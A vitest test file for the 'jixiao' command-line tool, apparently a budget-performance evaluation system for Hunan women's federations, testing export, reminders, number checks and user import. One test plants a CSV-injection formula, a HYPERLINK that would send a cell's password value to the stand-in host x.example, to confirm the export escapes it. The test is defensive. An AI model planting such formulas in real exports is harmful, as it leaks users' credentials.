// The `jixiao` command in-process (run()) and once as a real process for exit codes.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, beijingToday } from '../src/domain/deadlines.js';
import { authService } from '../src/services/auth.js';
import { openServices } from '../src/services/index.js';
import { cliDemo, runCli } from './helpers/cli.js';

const demo = cliDemo('jixiao-cli-');
const dir = demo.dir;
const cli = (...args: string[]) => runCli(args);

beforeAll(demo.open);
afterAll(demo.close);

describe('jixiao CLI', () => {
  it('lists every command in --help', async () => {
    const r = await cli('--help');
    expect(r.code).toBe(0);
    for (const c of ['serve', 'demo', 'export']) expect(r.out).toContain(c);
  });

  it('exports 武冈市妇联 2022 with the seed figures', async () => {
    const r = await cli('export', '--unit', '武冈市妇联', '--year', '2022', '--format', 'json', '--data', dir);
    expect(r.code, r.err).toBe(0);
    const e = JSON.parse(r.out);
    expect(e.unit.name).toBe('武冈市妇女联合会');
    for (const n of ['153.98', '10361', '10780', '104.04']) expect(r.out).toContain(n);
    expect(e.keyProjects[0].actual).toBe('10780');
  });

  it('exports 湖南省妇联 2016 with 1.9亿 as its parts and 101.76万 as 1017600', async () => {
    const r = await cli('export', '--unit', '湖南省妇女联合会', '--year', '2016', '--data', dir);
    expect(r.code, r.err).toBe(0);
    for (const n of ['"2473"', '"6823"', '"9810"', '"1017600"', '8439', '98%']) expect(r.out).toContain(n);
  });

  it('exports 武冈 2022 scored: computed actuals, total and grade, 两癌 measures and rates as numbers', async () => {
    const r = await cli('export', '--unit', '武冈市妇联', '--year', '2022', '--data', dir);
    expect(r.code, r.err).toBe(0);
    const e = JSON.parse(r.out);
    const actual = (code: string) => e.indicators.find((v: { indicatorCode: string }) => v.indicatorCode === code).actual;
    expect(['1.1.1', '1.1.2', '1.2.1', '2.1.2'].map(actual)).toEqual(['100', '0', '100', '104.04']);
    expect([e.totalScore, e.grade]).toEqual(['98.24', 'excellent']);
    const p = e.keyProjects[0];
    expect([p.target, p.actual, p.rate]).toEqual(['10361', '10780', '104.04']);
    expect(
      p.measures.map((m: { name: string; actual: string; unitOfMeasure: string; rate: string | null }) => [m.name, m.actual, m.unitOfMeasure, m.rate]),
    ).toEqual([
      ['救助金', '31', '万元', null],
      ['救助人数', '31', '人', null],
    ]);
    const project = JSON.parse((await cli('export', '--unit', '武冈市妇联', '--year', '2022', '--project', 'liangai', '--data', dir)).out);
    expect([project.framework.code, project.projectCode, project.grade]).toEqual(['project-expenditure', 'liangai', 'excellent']);
  });

  it('finds 湖南 2016 by 湖南省妇联, 省妇联 or 430000 (the same evaluation); an ambiguous name lists candidates, exit 1', async () => {
    const ids = [];
    for (const unit of ['湖南省妇联', '省妇联', '430000', '湖南省妇女联合会']) {
      const r = await cli('export', '--unit', unit, '--year', '2016', '--data', dir);
      expect(r.code, `${unit}: ${r.err}`).toBe(0);
      ids.push(JSON.parse(r.out).id);
    }
    expect(new Set(ids).size).toBe(1);
    const amb = await cli('export', '--unit', '邵阳妇联', '--year', '2022', '--data', dir);
    expect(amb.code).toBe(1);
    expect(amb.out).toBe('');
    expect(amb.err).toContain('邵阳市妇女联合会（430500）');
    expect(amb.err).toContain('邵阳县妇女联合会（430523）');
  });

  it('says what was not found in one line, exit 1, no stack trace', async () => {
    const r = await cli('export', '--unit', '不存在的单位', '--year', '2022', '--data', dir);
    expect(r.code).toBe(1);
    expect(r.err.trim().split('\n')).toHaveLength(1);
    expect(r.err).toContain('不存在的单位');
    const y = await cli('export', '--unit', '武冈市妇联', '--year', '1999', '--data', dir);
    expect(y.code).toBe(1);
    expect(y.err).toContain('1999');
  });

  it('remind sends the 7-day reminders of the demo deadline (30 days after loading) once, however often it runs; a bad date is exit 2', async () => {
    const weekBefore = addDays(beijingToday(), 30 - 7);
    const first = await cli('remind', '--today', weekBefore, '--data', dir);
    expect(first.code, first.err).toBe(0);
    const sent = Number(/发出 (\d+) 条/.exec(first.out)?.[1]);
    expect(sent).toBeGreaterThan(0);
    const again = await cli('remind', '--today', weekBefore, '--data', dir);
    expect(again.out).toContain('发出 0 条');
    const bad = await cli('remind', '--today', '2023-3-24', '--data', dir);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain('YYYY-MM-DD');
  });

  it('report for one unit with --out DIR (the folder of --all) is refused, pointing at -o FILE, instead of writing into the cwd', async () => {
    const r = await cli('report', '--unit', '武冈市妇联', '--year', '2022', '--out', dir);
    expect(r.code).toBe(2);
    expect(r.err).toContain('-o FILE');
  });
  it('rejects a bad year with exit 2', async () => {
    expect((await cli('export', '--unit', 'x', '--year', 'abc', '--data', dir)).code).toBe(2);
  });

  it('exits with the code as a real process', () => {
    const p = spawnSync(process.execPath, ['bin/jixiao.js', 'export', '--unit', '不存在', '--year', '2022', '--data', dir], {
      encoding: 'utf8',
      env: process.env,
    });
    expect(p.status).toBe(1);
    expect(p.stderr).not.toMatch(/at .*\.ts:\d+/); // no stack trace
  });

  it('check as a real process (the bundled fast path once built): finds the planted errors, exit 1', () => {
    const p = spawnSync(process.execPath, ['bin/jixiao.js', 'check', 'test/corpus/planted-prose.txt'], { encoding: 'utf8', env: process.env });
    expect(p.status).toBe(1);
    expect(p.stdout).toMatch(/检查了 \d+ 处数字关系：[1-9]\d* 处错误/);
    const missing = spawnSync(process.execPath, ['bin/jixiao.js', 'check', 'no-such-file.txt'], { encoding: 'utf8', env: process.env });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain('文件不存在');
  });

  it('check --relations prints a table relation in the table’s unit, in text and in --json', async () => {
    const file = join(dir, 'table-unit.txt');
    writeFileSync(file, ['单位：万元', '项目 | 年初预算数 | 决算数', '办公费 | 300 | 290', '差旅费 | 500 | 510', '合计 | 800 | 810'].join('\n'));
    const text = await cli('check', '--relations', file);
    expect(text.code).toBe(1);
    expect(text.out).toContain('错误 [tableTotal] 写为 810万元，计算 800万元');
    const json = await cli('check', '--relations', '--json', file);
    const wrong = JSON.parse(json.out).relations.find((r: { verdict: string }) => r.verdict === 'error');
    expect(wrong).toMatchObject({ stated: 810, computed: 800, statedText: '810万元', computedText: '800万元' });
    expect(wrong.parts.map((p: { text: string }) => p.text)).toEqual(['290万元', '510万元']);
  });

  it('user add creates the first admin of a deployment with a generated password that logs in', async () => {
    const r = await cli('user', 'add', 'root.admin', '--name', '省级管理员', '--role', 'admin', '--data', dir);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toContain('管理员 @ 全部单位');
    const password = /shown once\): (\S+)/.exec(r.out)![1]!;
    expect(password).toHaveLength(16);
    const f = await cli('user', 'add', 'wg.cli', '--name', '武冈填报员', '--role', 'filler', '--unit', '武冈市妇联', '--data', dir);
    expect(f.code, f.err).toBe(0);
    expect(f.out).toContain('填报人 @ 武冈市妇女联合会');
    const s = await openServices({ dataDir: dir });
    try {
      const session = await authService(s.store.db).login('root.admin', password);
      expect(session.user.roles).toEqual([{ role: 'admin', unitId: null, unitName: null }]);
    } finally {
      await s.close();
    }
    const list = await cli('user', 'list', '--q', 'cli', '--data', dir);
    expect(list.out).toMatch(/wg\.cli\t武冈填报员\t正常\t填报人@武冈市妇女联合会/);
    expect(list.out).toContain('共 1 个用户');
  });

  it('user add refuses clearly: a taken name (1), a filler without a unit (2), an unknown unit (1)', async () => {
    const taken = await cli('user', 'add', 'ROOT.admin', '--name', 'x', '--role', 'admin', '--data', dir);
    expect([taken.code, taken.err]).toEqual([1, expect.stringContaining('用户名已存在')]);
    const noUnit = await cli('user', 'add', 'f2', '--name', 'x', '--role', 'filler', '--data', dir);
    expect([noUnit.code, noUnit.err]).toEqual([2, expect.stringContaining('--unit')]);
    const badUnit = await cli('user', 'add', 'f3', '--name', 'x', '--role', 'filler', '--unit', '不存在的单位', '--data', dir);
    expect([badUnit.code, badUnit.err]).toEqual([1, expect.stringContaining('未找到单位')]);
    const badRole = await cli('user', 'add', 'f4', '--name', 'x', '--role', 'boss', '--unit', '武冈市妇联', '--data', dir);
    expect(badRole.code).toBe(2);
  });

  it('user passwd resets with a new generated password', async () => {
    const r = await cli('user', 'passwd', 'wg.cli', '--data', dir);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toMatch(/new password \(shown once\): \S{16}/);
    expect((await cli('user', 'passwd', 'nobody', '--data', dir)).code).toBe(1);
  });

  it('user import creates users from a list: checks every row first, writes initial passwords to --out', async () => {
    const list = join(dir, 'users.csv');
    writeFileSync(list, '用户名,姓名,角色,单位\nwg.bulk1,武冈填报员甲,填报人,武冈市妇联\nsy.bulk2,"邵阳审核员, 乙",审核人,430500\n');
    const dry = await cli('user', 'import', list, '--dry-run', '--data', dir);
    expect(dry.code, dry.err).toBe(0);
    expect(dry.out).toContain('可创建 2 个用户');
    expect((await cli('user', 'import', list, '--data', dir)).code).toBe(2); // --out is required

    const out = join(dir, 'passwords.csv');
    const r = await cli('user', 'import', list, '--out', out, '--data', dir);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toContain('已创建 2 个用户');
    const lines = readFileSync(out, 'utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('用户名,姓名,角色,单位,初始密码');
    expect(lines[2]).toMatch(/^sy\.bulk2,"邵阳审核员, 乙",审核人,邵阳市妇女联合会,\S{16}$/);
    const password = lines[1]!.split(',').pop()!;
    const s = await openServices({ dataDir: dir });
    try {
      const session = await authService(s.store.db).login('wg.bulk1', password);
      expect(session.user.roles).toEqual([{ role: 'filler', unitId: expect.any(String), unitName: '武冈市妇女联合会' }]);
      expect(session.user.mustChangePassword).toBe(true);
    } finally {
      await s.close();
    }
    // again: every row is taken, nothing is written, the out file is not overwritten
    expect((await cli('user', 'import', list, '--out', out, '--data', dir)).code).toBe(2);
    const again = await cli('user', 'import', list, '--out', join(dir, 'p2.csv'), '--data', dir);
    expect(again.code).toBe(1);
    expect(again.err).toContain('第 2 行 / line 2: 用户名已存在');
    expect(again.err).toContain('第 3 行 / line 3: 用户名已存在');
    expect(existsSync(join(dir, 'p2.csv'))).toBe(false);
  });

  it('user import writes names that look like formulas as text in the passwords file (no CSV injection)', async () => {
    const list = join(dir, 'formula-users.csv');
    writeFileSync(
      list,
      '用户名,姓名,角色,单位\n@wg.f1,"=HYPERLINK(""http://x.example/?""&E2,""点我"")",填报人,武冈市妇联\nwg.f2,+甲,填报人,武冈市妇联\nwg.f3,-乙,填报人,武冈市妇联\n',
    );
    const out = join(dir, 'formula-passwords.csv');
    const r = await cli('user', 'import', list, '--out', out, '--data', dir);
    expect(r.code, r.err).toBe(0);
    const lines = readFileSync(out, 'utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[1]).toMatch(/^'@wg\.f1,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&E2,""点我""\)",填报人,武冈市妇女联合会,\w{16}$/);
    expect(lines[2]).toMatch(/^wg\.f2,'\+甲,/);
    expect(lines[3]).toMatch(/^wg\.f3,'-乙,/);
  });

  it('user import refuses a list with problems, naming each line, and reads .xlsx too', async () => {
    const bad = join(dir, 'bad.csv');
    writeFileSync(bad, '用户名,姓名,角色,单位\nok.one,甲,填报人,武冈市妇联\nno.unit,乙,填报人,不存在的单位\nx,丙,领导,武冈市妇联\n');
    const r = await cli('user', 'import', bad, '--out', join(dir, 'bad-out.csv'), '--data', dir);
    expect(r.code).toBe(1);
    expect(r.err).toContain('第 4 行 / line 4: 未知角色');
    expect(r.err).toContain('第 4 行 / line 4: 用户名须为');
    expect(r.err).toContain('未创建任何用户');
    // the unit is checked once the rows themselves are fine
    writeFileSync(bad, '用户名,姓名,角色,单位\nok.one,甲,填报人,武冈市妇联\nno.unit,乙,填报人,不存在的单位\n');
    const r2 = await cli('user', 'import', bad, '--out', join(dir, 'bad-out.csv'), '--data', dir);
    expect(r2.err).toContain('第 3 行 / line 3: 未找到单位 / unit not found: 不存在的单位');
    const list = await cli('user', 'list', '--q', 'ok.one', '--data', dir);
    expect(list.out).toContain('共 0 个用户');

    const { default: Excel } = await import('exceljs');
    const wb = new Excel.Workbook();
    const ws = wb.addWorksheet('用户');
    ws.addRows([
      ['用户名', '姓名', '角色', '单位'],
      ['xl.user', '表格用户', '财政', '武冈市妇联'],
    ]);
    const xlsx = join(dir, 'users.xlsx');
    await wb.xlsx.writeFile(xlsx);
    const x = await cli('user', 'import', xlsx, '--out', join(dir, 'xl-out.csv'), '--data', dir);
    expect(x.code, x.err).toBe(0);
    expect(readFileSync(join(dir, 'xl-out.csv'), 'utf8')).toContain('xl.user,表格用户,财政,武冈市妇女联合会,');
  });
});
